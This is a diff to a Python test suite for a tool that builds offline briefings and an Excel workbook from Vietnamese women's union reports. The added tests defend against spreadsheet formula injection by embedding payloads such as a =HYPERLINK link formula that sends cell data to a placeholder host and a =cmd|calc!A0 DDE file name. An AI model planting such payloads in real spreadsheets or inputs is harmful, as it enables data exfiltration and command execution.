@@ -34,9 +34,20 @@ def offline_problems(page: str) -> list[str]:
         re.findall(r"@import\s+url\(\s*['\"]?https?://[^)]*\)", page)
 
 
+def build_tables(reports: Path, out: Path) -> Path:
+    """The tables ``wuanalysis build --no-briefings`` writes (briefing.py only reads them)."""
+    from wuanalysis.catalogue import load_targets
+    from wuanalysis.corpus import read_reports, write_corpus
+    from wuanalysis.measures import compute_measurements
+
+    corpus = read_reports(reports)
+    write_corpus(corpus, out, compute_measurements(corpus.documents, corpus.facts, load_targets()))
+    return out
+
+
 @pytest.fixture(scope="session")
 def data_dir(tmp_path_factory) -> Path:
-    return briefing.ensure_outputs(tmp_path_factory.mktemp("outputs"), SEEDS)
+    return build_tables(SEEDS, tmp_path_factory.mktemp("outputs"))
 
 
 @pytest.fixture(scope="session")
@@ -146,6 +157,8 @@ def test_render_briefing_binh_phuoc(data_dir, tmp_path):
     assert "from wuanalysis import" not in page and "papermill" not in page.lower()  # code hidden
     assert offline_problems(page) == []
     assert not re.search(r"<script\b", page)  # no script at all: the page is static
+    assert '<meta name="generator" content="wuanalysis">' in page  # the reader skips our own pages
+    assert "@font-face" in page and f'font-family="{present.FONT_FAMILY}"' in page  # charts drawn in the shipped font
 
 
 def test_render_briefing_unknown_province(data_dir, tmp_path):
@@ -212,7 +225,7 @@ def test_hostile_report_is_escaped_on_every_page(tmp_path):
     (reports / "ha_nam_2023.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
     shutil.copy(next(SEEDS.glob("003_*.txt")), reports)
     out = tmp_path / "out"
-    briefing.ensure_outputs(out, reports)
+    build_tables(reports, out)
     tables = briefing.load_tables(out)
     assert "Hà Nam" in set(tables.measurements["province"]), "the hostile report must reach a briefing"
     result = briefing.render_all(out, out, workers=2)
@@ -250,3 +263,146 @@ def test_slug():
     assert scorecard.parse_period("2023:9m") == (2023, "9m") and scorecard.parse_period(None) == (None, None)
     with pytest.raises(ValueError):
         scorecard.parse_period("last year")
+
+
+# ---------------------------------------------------------------- the workbook holds data, never code
+
+FORMULA_REPORT = """HỘI LIÊN HIỆP PHỤ NỮ TỈNH BÌNH PHƯỚC
+BÁO CÁO KẾT QUẢ CÔNG TÁC HỘI NĂM 2023
+
+=HYPERLINK("http://x"&B2,"y") trong năm 2023 toàn tỉnh đã phát triển mới được 2.345 hội viên, đạt 120% so với chỉ tiêu.
+@SUM(1+1) các cấp Hội đã giúp 210 hộ thoát nghèo.
+"""
+
+
+def test_workbook_cells_are_data_never_formulas(tmp_path):
+    """Report text that looks like a formula (a line `=HYPERLINK(…)`, a file named `=cmd|calc!A0.txt`) is stored
+    as text in scorecards.xlsx."""
+    from openpyxl import load_workbook
+
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    (reports / "=cmd|calc!A0.txt").write_text(FORMULA_REPORT, encoding="utf-8")
+    tables = briefing.load_tables(build_tables(reports, tmp_path / "out"))
+    assert tables.measurements["sentence"].str.contains("=HYPERLINK", regex=False).any()
+    xlsx = briefing.write_scorecards(tables.measurements, tmp_path / "out")[1]
+    wb = load_workbook(xlsx)
+    texts, formulas = [], []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                formulas += [cell.coordinate] if cell.data_type == "f" else []
+                texts += [cell.value] if isinstance(cell.value, str) else []
+    assert formulas == []
+    assert any('=HYPERLINK("http://x"&B2,"y")' in t for t in texts)
+    assert "=cmd|calc!A0.txt" in texts  # the document column, as text
+    risky = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
+
+
+def test_workbook_sheet_names_stay_data():
+    used: set[str] = set()
+    assert briefing._sheet_name("=cmd|calc!A0", used) == "=cmd|calc!A0"  # a sheet name is never evaluated
+    assert briefing._sheet_name("'Bình Phước'", used) == "Bình Phước"  # Excel refuses quotes at either end
+
+
+# ---------------------------------------------------------------- notebooks only read
+
+
+def test_notebook_with_a_missing_data_dir_stops_and_writes_nothing(tmp_path):
+    import subprocess
+    import sys
+
+    typo = tmp_path / "typo"
+    run = subprocess.run([sys.executable, "-m", "papermill", str(ROOT / "notebooks" / "briefing.ipynb"),
+                          str(tmp_path / "out.ipynb"), "-p", "data_dir", str(typo), "--no-progress-bar"],
+                         capture_output=True, text=True, timeout=300, cwd=str(ROOT / "notebooks"))
+    assert run.returncode != 0
+    assert "wuanalysis build seeds --out outputs" in run.stderr and str(typo) in run.stderr
+    assert not typo.exists()
+
+
+def test_incomplete_data_dir_names_what_is_missing(data_dir, tmp_path):
+    shutil.copy(data_dir / "documents.parquet", tmp_path)
+    with pytest.raises(FileNotFoundError, match=r"measurements\.parquet.*wuanalysis build seeds --out outputs"):
+        briefing.resolve_data_dir(tmp_path)
+    assert briefing.resolve_data_dir(data_dir) == data_dir.resolve()
+
+
+def test_default_data_dir_works_from_the_notebooks_folder_and_from_the_root(data_dir, tmp_path, monkeypatch):
+    """``"../outputs"`` is relative to notebooks/; run from the repository root it still finds outputs/."""
+    monkeypatch.chdir(ROOT / "notebooks")
+    from_notebooks = briefing.data_dir_candidates("../outputs")
+    monkeypatch.chdir(ROOT)
+    from_root = briefing.data_dir_candidates("../outputs")
+    assert from_notebooks[0] == from_root[-1] == (ROOT / "outputs").resolve()
+    assert briefing.data_dir_candidates(str(data_dir)) == [data_dir.resolve()]  # an absolute path is taken as is
+
+
+def test_briefing_module_never_builds():
+    assert not hasattr(briefing, "ensure_outputs")
+    for name in ("briefing", "overview"):
+        source = "\n".join(c.source for c in nbformat.read(ROOT / "notebooks" / f"{name}.ipynb", as_version=4).cells)
+        assert "ensure_outputs" not in source and "seeds" not in source and "resolve_data_dir(data_dir)" in source
+
+
+# ---------------------------------------------------------------- `brief` checks its inputs before any kernel
+
+
+@pytest.fixture
+def no_kernel(monkeypatch):
+    def refuse(*args, **kwargs):
+        raise AssertionError("a kernel was started before the inputs were checked")
+
+    monkeypatch.setattr(briefing, "_execute", refuse)
+
+
+def test_render_briefing_checks_inputs_before_starting_a_kernel(data_dir, tmp_path, no_kernel):
+    from wuanalysis.errors import ConfigError
+
+    with pytest.raises(ValueError, match=r"no figures for the period 2030; periods with figures: 2023:year"):
+        briefing.render_briefing("Bình Phước", tmp_path / "a", data_dir, period="2030")
+    with pytest.raises(ValueError, match="Bình Phước"):
+        briefing.render_briefing("Cao Bằng", tmp_path / "b", data_dir)
+    with pytest.raises(ValueError, match="Atlantis"):
+        briefing.render_briefing("Atlantis", tmp_path / "c", data_dir)
+    with pytest.raises(FileNotFoundError, match="wuanalysis build seeds --out outputs"):
+        briefing.render_briefing("Bình Phước", tmp_path / "d", tmp_path / "nowhere")
+    empty = tmp_path / "empty.csv"
+    empty.write_text("", encoding="utf-8")
+    with pytest.raises(ConfigError, match="empty.csv"):
+        briefing.render_briefing("Bình Phước", tmp_path / "e", data_dir, targets_path=empty)
+    with pytest.raises(ConfigError, match="empty.csv"):
+        briefing.render_briefing("Bình Phước", tmp_path / "f", data_dir, clusters_path=empty)
+    with pytest.raises(ValueError, match="period must look like"):
+        briefing.render_briefing("Bình Phước", tmp_path / "g", data_dir, period="last year")
+    assert not any((tmp_path / d).exists() for d in "abcdefg")  # nothing written either
+
+
+def test_pages_are_marked_as_ours_and_carry_the_font(data_dir, tmp_path):
+    result = pd.DataFrame([{"province": "Bình Phước", "slug": "binh-phuoc", "status": "ok",
+                            "html": str(tmp_path / "briefings" / "binh-phuoc.html"), "notebook": None, "error": None,
+                            "headlines": "<b>x</b>", "seconds": 1.0}], columns=briefing.RESULT_COLUMNS)
+    page = briefing.render_index(result, tmp_path).read_text(encoding="utf-8")
+    assert '<meta name="generator" content="wuanalysis">' in page
+    assert "@font-face" in page and present.FONT_FAMILY in page and "&lt;b&gt;x" in page
+
+
+def test_a_briefing_run_by_hand_exports_to_an_offline_page(data_dir, tmp_path):
+    """The README's recipe: papermill, then `python -m wuanalysis.briefing executed.ipynb page.html`."""
+    import subprocess
+    import sys
+
+    executed = tmp_path / "bp.ipynb"
+    run = subprocess.run([sys.executable, "-m", "papermill", str(ROOT / "notebooks" / "briefing.ipynb"), str(executed),
+                          "-p", "province", "Bình Phước", "-p", "data_dir", str(data_dir), "--no-progress-bar"],
+                         capture_output=True, text=True, timeout=300, cwd=str(ROOT))
+    assert run.returncode == 0, run.stderr[-2000:]
+    run = subprocess.run([sys.executable, "-m", "wuanalysis.briefing", str(executed), str(tmp_path / "bp.html")],
+                         capture_output=True, text=True, timeout=300)
+    assert run.returncode == 0, run.stderr[-2000:]
+    page = (tmp_path / "bp.html").read_text(encoding="utf-8")
+    assert offline_problems(page) == [] and not re.search(r"<script\b", page)
+    assert "<title>Bình Phước</title>" in page and "4.094" in page and "from wuanalysis import" not in page
+    assert '<meta name="generator" content="wuanalysis">' in page and "@font-face" in page
